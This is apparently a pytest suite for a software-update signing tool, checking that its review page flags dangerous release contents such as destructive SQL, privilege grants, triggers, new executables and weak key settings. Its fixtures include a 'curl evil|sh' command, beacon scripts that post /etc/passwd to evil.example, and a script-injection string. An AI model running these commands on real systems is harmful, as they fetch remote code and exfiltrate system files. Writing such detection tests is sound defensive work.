"""Tests of the signer's page: ten dangers, each of which it must mark."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from html import unescape
from pathlib import Path
from typing import Any

import pytest

from demo.release_flow import publish_release
from ncen_updater.common.messages import REVIEW_FILES_MISSING
from ncen_updater.formats.rollout import RolloutWave
from ncen_updater.publisher.build.release_build import build_release
from ncen_updater.publisher.cli.main import run
from ncen_updater.publisher.feed.feed_directory import FeedDirectory
from ncen_updater.publisher.new.trial import FeedKeys, create_feed
from ncen_updater.publisher.review.event_review import EventReview, build_review
from ncen_updater.publisher.review.text_page import (
    format_annex,
    format_details,
    format_summary,
    group_marked_lines,
    render_html,
)
from ncen_updater.publisher.signing.draft import (
    draft_initial_roles,
    draft_key_change,
    draft_releases,
)
from ncen_updater.publisher.signing.event_files import REVIEW_DIRECTORY
from ncen_updater.publisher.signing.signing_event import SigningEvent
from tests.publisher.feeds import ceremony_of
from tests.publisher.releases import NOW, PASSPHRASE, clock, ring, write_release
from tests.support.errors import refused

DATABASE = '[[health]]\nname = "answers"\npath = "/"\n[[databases]]\nname = "cases"\n'
MIGRATION = """
[[databases.migrations]]
id = "{id}"
up = "m/{id}.up.sql"
down = "m/{id}.down.sql"
"""
HARMLESS = "ALTER TABLE cases\n  ADD COLUMN country text;\nCREATE INDEX c ON cases (country);\n"
DOWN = (
    "INSERT INTO ncen_kept.country SELECT id, country FROM cases;\nALTER TABLE cases DROP country"
)


@dataclass
class Desk:
    """A feed with one release, and drafts on top of it."""

    place: Path
    keys: FeedKeys

    @property
    def feed(self) -> FeedDirectory:
        return FeedDirectory(self.place / "feed")

    def release(self, place: Path, version: str, up: Sequence[str], extra: str = "") -> Path:
        names = [f"{number:03}" for number, _ in enumerate(up, 1)]
        found = "".join(MIGRATION.format(id=name) for name in names)
        release = write_release(place, version, extra=extra + (DATABASE + found if up else ""))
        (release / "bin/app").write_text("#!/bin/sh\necho the same\n")
        (release / "m").mkdir()
        for name, text in zip(names, up, strict=True):
            (release / f"m/{name}.up.sql").write_text(text)
            (release / f"m/{name}.down.sql").write_text(DOWN)
        return release

    def event(self, release: Path, waves: Sequence[RolloutWave] = ()) -> SigningEvent:
        build_release(release, self.place / "staging")
        state = self.feed.read_state()
        draft = draft_releases(state, self.place / "staging", NOW, waves, None, self.feed)
        return SigningEvent.create(
            self.place / "event", draft.title, draft.roles, state, draft.review_files
        )

    def next(self, up: str = HARMLESS, extra: str = "") -> Path:
        return self.release(
            self.place / "next", "3.4.0", ["CREATE TABLE cases (id int);", up], extra
        )

    def agreed(self, role: str, **changes: Any) -> SigningEvent:
        """Draft the event of another ceremony."""
        ceremony = ceremony_of(
            self.keys.signers, {name: held[0] for name, held in self.keys.online.items()}
        )
        roles = {**ceremony.roles, role: replace(ceremony.roles[role], **changes)}
        ceremony = replace(ceremony, roles=roles)
        state = self.feed.read_state()
        draft = draft_key_change(state, ceremony, NOW)
        return SigningEvent.create(self.place / "event", draft.title, draft.roles, state)


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Desk:
    place = tmp_path_factory.mktemp("officers")
    desk = Desk(place, ring(place))
    create_feed(desk.place / "feed", desk.keys, clock)
    first = desk.release(desk.place / "first", "3.3.0", ["CREATE TABLE cases (id int);"])
    publish_release(desk.place / "feed", [first], desk.keys, clock)
    return desk


@pytest.fixture
def desk(tmp_path: Path, published: Desk) -> Desk:
    shutil.copytree(published.place / "feed", tmp_path / "feed")
    return replace(published, place=tmp_path)


def render_lines(page: EventReview, language: str = "en") -> list[str]:
    lines = [*format_summary(page), *format_details(page, language), *format_annex(page)]
    return [line if isinstance(line, str) else line.render(language) for line in lines]


def warnings(page: EventReview) -> list[str]:
    return [text.render() for text in (*page.critical, *page.warnings)]


def sql(statement: str) -> Callable[[Desk], SigningEvent]:
    return lambda desk: desk.event(desk.next(f"{HARMLESS}{statement};\n"))


def migrator(desk: Desk) -> SigningEvent:
    extra = '[migrator]\nargv = ["/bin/sh", "-c", "curl evil|sh"]\n[[health]]\nname="a"\npath="/"\n'
    return desk.event(desk.release(desk.place / "next", "3.4.0", [], extra))


def program(desk: Desk) -> SigningEvent:
    release = desk.next()
    (release / "bin/app").write_text("#!/bin/sh\necho another\n")
    return desk.event(release)


def phones_home(name: str, mode: int) -> Callable[[Desk], SigningEvent]:
    def make(desk: Desk) -> SigningEvent:
        release = desk.next()
        (release / name).write_text("#!/bin/sh\ncurl https://evil.example/ -d @/etc/passwd\n")
        (release / name).chmod(mode)
        return desk.event(release)

    return make


def wave(desk: Desk) -> SigningEvent:
    return desk.event(
        desk.next(), [RolloutWave(opens=datetime(2020, 1, 1, tzinfo=UTC), percent=100)]
    )


def country(desk: Desk) -> SigningEvent:
    release = desk.next()
    text = (release / "manifest.toml").read_text()
    (release / "manifest.toml").write_text(f'countries = ["XX"]\n{text}')
    return desk.event(release)


DANGERS: dict[str, tuple[Callable[[Desk], SigningEvent], str]] = {
    "silent UPDATE": (
        sql("UPDATE cases SET kg = 0 WHERE country <> 'MU'"),
        r"002\.up\.sql, line 4, changes records: UPDATE cases SET kg = 0",
    ),
    "GRANT": (sql("GRANT ALL ON cases TO PUBLIC"), r"line 4, changes privileges: GRANT ALL"),
    "function": (
        sql("CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN END $$"),
        r"line 4, creates or runs code in the database: CREATE FUNCTION",
    ),
    "migrator": (migrator, r"runs its own program .* curl evil\|sh"),
    "file that phones home": (
        phones_home("bin/beacon", 0o755),
        r"new executable files: bin/beacon$",
    ),
    "file that phones home when it is loaded": (
        phones_home("bin/beacon.py", 0o644),
        r"new executable files: bin/beacon\.py",
    ),
    "trigger": (
        sql("CREATE TRIGGER t BEFORE UPDATE ON cases FOR EACH ROW EXECUTE FUNCTION f()"),
        r"line 4, creates a trigger or rule: CREATE",
    ),
    "table made of a function": (
        sql("CREATE TABLE gone AS SELECT lo_unlink(17)"),
        r"line 4, adds records, calls a function: CREATE TABLE gone AS SELECT",
    ),
    "dropped column": (
        sql("ALTER TABLE cases DROP COLUMN kg"),
        r"drops an object: ALTER TABLE cases DROP",
    ),
    "date": (
        lambda desk: desk.agreed("timestamp", expiry_days=3650),
        r"timestamp: metadata is valid for 3650 days \(before: 7\)",
    ),
    "threshold": (
        lambda desk: desk.agreed("root", threshold=1),
        r"root: signature threshold is 1",
    ),
    "wave": (wave, r"the wave of (2019|2020)-\d\d-\d\d \d\d:00 .*UTC\)? is in the past: 100 %"),
    "country": (
        country,
        r"WARNING: ncen 3.4.0: unknown country XX",
    ),
}


def test_harmless_release_has_no_marks(desk: Desk) -> None:
    page = build_review(desk.event(desk.next()), complete=True)
    assert warnings(page) == []
    assert [text.render() for text in page.sentences] == [
        "Offers ncen 3.4.0 to sites in all countries: all sites at once."
    ]


def test_replaced_program_is_a_warning(desk: Desk) -> None:
    page = build_review(program(desk), complete=True)
    assert [text.render() for text in page.critical] == []
    assert [text.render() for text in page.warnings] == [
        "WARNING: changed executable files: bin/app"
    ]


@pytest.mark.parametrize(
    ("content", "mode", "seen"),
    [
        (b"words\n", 0o755, "always"),
        (b"words\n", 0o644, "never"),
        (b"#!/bin/sh\n", 0o644, "with the files"),
        (b"\x7fELF\x02\x01", 0o644, "with the files"),
    ],
)
@pytest.mark.parametrize("was", ["nothing", "words"])
def test_new_program_is_critical(
    desk: Desk, was: str, content: bytes, mode: int, seen: str
) -> None:
    """New, or not executable until now: by its mode, and by its content where available."""
    release = desk.next()
    path = release / ("bin/new" if was == "nothing" else "data/words.txt")
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(content)
    path.chmod(mode)
    event = desk.event(release)
    for places in ((), (desk.place / "staging", desk.place / "feed")):
        page = build_review(event, *places, complete=True)
        name = str(path.relative_to(release))
        expected = seen == "always" or name == "bin/new"  # of no kind that is data
        expected = expected or (seen == "with the files" and bool(places))
        found = [text.render() for text in page.critical]
        words = [f"WARNING: new executable files: {name}"]
        assert found == (words if expected else []), places


def test_implicitly_loaded_file_is_marked(desk: Desk) -> None:
    """A new one is critical, a changed one a warning; many are counted, and each is listed."""
    first = desk.place / "again"
    create_feed(first / "feed", desk.keys, clock)
    old = replace(desk, place=first)
    release = old.release(first / "first", "3.3.0", ["CREATE TABLE cases (id int);"])
    (release / "app.php").write_text("<?php one();")
    publish_release(first / "feed", [release], desk.keys, clock)
    following = old.next()
    (following / "app.php").write_text("<?php another();")
    (following / "lib").mkdir()
    for number in range(40):
        (following / f"lib/m{number:02}.py").write_text("import urllib\n")
    (following / "lib/run").write_text("words")
    (following / "lib/run").chmod(0o755)
    (following / "plugin.so").symlink_to("data.txt")
    page = build_review(old.event(following), complete=True)
    begin = "WARNING: new executable files: "
    assert [text.render() for text in page.critical] == [
        f"{begin}lib/run",
        f"{begin}40 in lib/, such as m00.py, m01.py, m02.py",
        f"{begin}plugin.so",
    ]
    assert [text.render() for text in page.warnings] == [
        "WARNING: changed executable files: app.php"
    ]
    lines = render_lines(page)
    assert "  added: lib/m17.py, 14 B (executable)" in lines
    assert "  added: plugin.so, link to data.txt (executable)" in lines
    assert "  changed: app.php, 12 B to 16 B (executable)" in lines


def test_marks_fit_a_terminal(desk: Desk, capsys: pytest.CaptureFixture[str]) -> None:
    up = HARMLESS + f"DELETE FROM cases WHERE note = '{'word ' * 40}';"
    event = desk.event(desk.next(up=up))
    root = desk.place / "feed/metadata/1.root.json"
    assert run(["show", str(event.directory), "--root", str(root)]) == 0
    lines = capsys.readouterr().out.splitlines()
    marks = lines[: lines.index("ncen 3.4.0 (previous: 3.3.0)") - 1]
    assert max(len(line) for line in marks) <= 80
    assert "  WARNING: m/002.up.sql, line 4, deletes records: DELETE FROM cases WHERE note" in marks
    # The SQL itself is as it is.
    assert [line for line in lines if line.startswith("    4 > DELETE") and len(line) > 200]


def test_each_key_is_shown_completely_once(desk: Desk) -> None:
    """The same signers sign four roles: one fingerprint each is compared."""
    held = ceremony_of(
        desk.keys.signers, {name: held[0] for name, held in desk.keys.online.items()}
    )
    draft = draft_initial_roles(held, NOW)
    event = SigningEvent.create(desk.place / "event", draft.title, draft.roles, None)
    lines = render_lines(build_review(event))
    told = [line for line in lines if re.search(r"(?:[0-9a-f]{8} ){7}[0-9a-f]{8}\)", line)]
    marks = [re.findall(r"[0-9a-f]{8}", line)[0] for line in told]
    assert len(marks) == len(set(marks)) == len(desk.keys.signers) + len(desk.keys.online)
    again = [line for line in lines if "same key, " in line]
    assert len(again) > len(told) / 2
    assert {re.findall(r"same key, ([0-9a-f]{8})", line)[0] for line in again} <= set(marks)


@pytest.mark.parametrize("danger", DANGERS)
def test_each_danger_is_marked(desk: Desk, danger: str) -> None:
    make, expected = DANGERS[danger]
    page = build_review(make(desk), complete=True)
    found = [line for line in warnings(page) if re.search(expected, line)]
    assert len(found) == 1, warnings(page)
    assert found[0].startswith("WARNING")
    assert found[0] in [text.render() for text in page.critical], "not among the grave"
    (_, first), *_ = group_marked_lines(page)
    assert list(first) == list(page.critical), "the grave do not stand first"
    shown = "\n".join(render_lines(page))
    assert found[0] in shown
    html = render_html(page).decode()
    assert "To decide before signing" in html
    assert "<script" not in html


def test_each_of_many_dangers_is_marked(desk: Desk) -> None:
    """All dangers in one release: none is lost among the others, in either form."""
    together = [
        "silent UPDATE", "GRANT", "function", "trigger", "dropped column",
        "file that phones home", "file that phones home when it is loaded", "wave", "country",
    ]  # fmt: skip
    release = desk.next(
        HARMLESS + "UPDATE cases SET kg = 0 WHERE country <> 'MU'; GRANT ALL ON cases TO PUBLIC;"
        " CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM cases;"
        " RETURN NEW; END $$; CREATE TRIGGER t BEFORE UPDATE ON cases FOR EACH ROW"
        " EXECUTE FUNCTION f(); ALTER TABLE cases DROP COLUMN kg;"
    )
    for name, mode in (("bin/beacon", 0o755), ("bin/beacon.py", 0o644)):
        (release / name).write_text("#!/bin/sh\ncurl https://evil.example/\n")
        (release / name).chmod(mode)
    text = (release / "manifest.toml").read_text()
    (release / "manifest.toml").write_text(f'countries = ["XX"]\n{text}')
    opens = [RolloutWave(opens=datetime(2020, 1, 1, tzinfo=UTC), percent=100)]
    page = build_review(desk.event(release, opens), complete=True)
    grave = [text.render() for text in page.critical]
    html = unescape(render_html(page).decode())
    for danger in together:
        expected = DANGERS[danger][1].replace(": CREATE FUNCTION", ";.*: CREATE FUNCTION")
        found = [line for line in grave if re.search(f"(?<!on rollback, ){expected}", line)]
        assert len(found) == 1, (danger, grave)
        assert found[0] in html, danger
    # No mark beside them, but that lint refuses the country, too, and that with a trigger in it
    # nothing is known of what the rollback undoes.
    beside = [line for line in grave if "blocked by lint" in line or "rollback" in line]
    assert len(beside) == 2 and len(grave) == len(together) + 2, grave


def test_page_shows_the_whole_release(desk: Desk) -> None:
    """Notes, files with their lines, SQL in full, the rollback, and digests at the end only."""
    release = desk.next(up=HARMLESS + "UPDATE cases\nSET country = 'MU';\n")
    (release / "bin/app").write_text("#!/bin/sh\necho another\necho more\n")
    event = desk.event(release)
    page = build_review(event, desk.place / "staging", desk.place / "feed", complete=True)
    lines = render_lines(page)
    assert "  Words." in lines
    assert "  changed: bin/app, lines +2 -1 (executable)" in lines
    assert "  Rollback keeps all records, with the SQL files below." in lines
    numbered = [line for line in lines if re.match(r" +\d+ [>|]", line)]
    assert numbered[:6] == [
        "    1 | ALTER TABLE cases",
        "    2 |   ADD COLUMN country text;",
        "    3 | CREATE INDEX c ON cases (country);",
        "    4 > UPDATE cases",
        "    5 > SET country = 'MU';",
        "    6 | ",
    ]
    annex = lines.index("Annex: digests")
    assert not [line for line in lines[:annex] if re.search(r"[0-9a-f]{8} [0-9a-f]{8}", line)]
    assert [line for line in lines[annex:] if "Event digest: " in line]
    # Without the archives lines are not counted, and the file is named nevertheless.
    shown = render_lines(build_review(event, complete=True))
    assert [line for line in shown if line.startswith("  changed: bin/app, 24 B to 3")]


def test_rollback_loss_is_shown(desk: Desk) -> None:
    release = desk.next()
    (release / "m/002.down.sql").write_text("ALTER TABLE cases DROP COLUMN country;")
    page = build_review(desk.event(release), complete=True)
    assert [text.render() for text in page.releases[0].rollback] == [
        "m/002.down.sql, line 1: rollback loses values entered in cases.cases.country.",
        "Rollback keeps all records, with the SQL files below.",
    ]


def test_side_effects_of_a_rollback_are_marked(desk: Desk) -> None:
    release = desk.next()
    (release / "m/002.down.sql").write_text(f"{DOWN};\nGRANT ALL ON cases TO PUBLIC;")
    found = warnings(build_review(desk.event(release), complete=True))
    assert found == [
        (
            "WARNING: m/002.down.sql, line 3, on rollback, changes privileges: GRANT ALL ON"
            " cases TO PUBLIC"
        )
    ]


@pytest.mark.parametrize("direction", ["up", "down"])
def test_changed_file_of_an_earlier_migration_is_shown(desk: Desk, direction: str) -> None:
    """The published one may lie beside it, as it was."""
    release = desk.next()
    manifest, evil = release / "manifest.toml", f"m/other.{direction}.sql"
    manifest.write_text(manifest.read_text().replace(f"m/001.{direction}.sql", evil))
    (release / evil).write_text("DELETE FROM cases;\n")
    page = build_review(desk.event(release), complete=True)
    assert evil in [sql.path for sql in page.releases[0].sql]
    assert [line for line in warnings(page) if f"NU-7106): {evil}" in line], warnings(page)


@pytest.mark.parametrize("which", ["SQL", "tree", "release before", "tree before"])
def test_unshown_content_cannot_be_signed(desk: Desk, which: str) -> None:
    """A drafter could omit hidden content from the event."""
    event = desk.event(desk.next())
    document = json.loads((desk.place / "staging/targets/releases/ncen/3.4.0.json").read_bytes())
    listed = desk.feed.read_state().delegated["ncen"].signed.targets
    paper = {
        "SQL": document["migrations"]["m/002.up.sql"],
        "tree": document["tree"]["sha256"],
        "release before": listed["releases/ncen/3.3.0.json"].hashes["sha256"],
        "tree before": listed["trees/ncen/3.3.0.json.zst"].hashes["sha256"],
    }[which]
    (event.directory / REVIEW_DIRECTORY / paper).write_bytes(b"another file")
    assert [line for line in warnings(build_review(event)) if "not readable" in line]
    with refused(REVIEW_FILES_MISSING):
        build_review(event, complete=True)
    beside = (desk.place / "staging", desk.place / "feed")
    assert not [
        line for line in warnings(build_review(event, *beside, complete=True)) if "read" in line
    ]


def test_two_spellings_of_a_version_are_two_releases(desk: Desk) -> None:
    """A drafter could hide one of them behind the other."""
    first = ["CREATE TABLE cases (id int);"]
    hidden = desk.release(desk.place / "hidden", "3.4.0", [*first, "DELETE FROM cases;"])
    build_release(hidden, desk.place / "staging")
    page = build_review(desk.event(desk.release(desk.place / "next", "3.4", first)), complete=True)
    assert {release.version for release in page.releases} == {"3.4", "3.4.0"}
    assert [line for line in warnings(page) if "deletes records" in line]


def test_replaced_release_is_shown(desk: Desk) -> None:
    """The drafting program refuses it; a drafter may use another one."""
    build_release(
        desk.release(desk.place / "next", "3.3.0", ["DELETE FROM cases;"]), desk.place / "staging"
    )
    forged = desk.feed.read_state()
    forged.delegated["ncen"].signed.targets.clear()
    draft = draft_releases(forged, desk.place / "staging", NOW, (), None, desk.feed)
    event = SigningEvent.create(
        desk.place / "event", draft.title, draft.roles, desk.feed.read_state(), draft.review_files
    )
    page = build_review(event, complete=True)
    assert [release.version for release in page.releases] == ["3.3.0"]
    assert [line for line in warnings(page) if "deletes records" in line]
    assert [line for line in warnings(page) if "replaced: releases/ncen/3.3.0.json" in line]


def test_lint_is_repeated_for_the_signer(desk: Desk) -> None:
    """A drafter may not have run it."""
    page = build_review(desk.event(desk.next(up="COMMIT;")), complete=True)
    assert [finding.code for finding in page.releases[0].findings][:1] == ["NU-7111"]
    assert [line for line in warnings(page) if "blocked by lint (NU-7111)" in line]


def test_release_content_is_escaped(desk: Desk) -> None:
    evil = "-- <script>alert(1)</script>\x1b[2J\u202e\n" + HARMLESS
    html = render_html(build_review(desk.event(desk.next(up=evil)), complete=True)).decode()
    assert "<script" not in html
    assert "&lt;script&gt;" in html
    assert "\x1b" not in html
    assert "\u202e" not in html


@pytest.mark.parametrize("language", ["en", "fr"])
def test_page_is_shown_and_confirmed_by_commands(
    desk: Desk, language: str, capsys: pytest.CaptureFixture[str], published: Desk
) -> None:
    """'show' prints the page and writes it; 'sign' prints the marks and asks by name."""
    event = desk.event(desk.next(up=HARMLESS + "DELETE FROM cases;"))
    shutil.copytree(published.place / "keys", desk.place / "keys")
    root, html = desk.place / "feed/metadata/1.root.json", desk.place / "page.html"
    secret = desk.place / "secret"
    secret.write_text(PASSPHRASE)
    secret.chmod(0o600)
    assert run(["show", str(event.directory), "--root", str(root), "--html", str(html),
                "--lang", language]) == 0  # fmt: skip
    shown = capsys.readouterr().out
    mark = {"en": "deletes records", "fr": "supprime des enregistrements"}[language]
    assert mark in shown
    assert mark in html.read_text("utf-8")
    sign = ["sign", str(event.directory), "--root", str(root), "--digest", event.digest,
            "--key", str(desk.place / "keys/amina.pem"), "--passphrase-file", str(secret),
            "--lang", language]  # fmt: skip
    assert run(sign) == 2  # no prompt is possible
    said = capsys.readouterr().err
    assert "NU-1102" in said and "?" in said.split("State:")[0], "it says what it would ask"
    assert not list((event.directory / "sig").iterdir())
    assert run([*sign, "--yes"]) == 0
    assert mark in capsys.readouterr().out
    assert len(list((event.directory / "sig").iterdir())) == 1
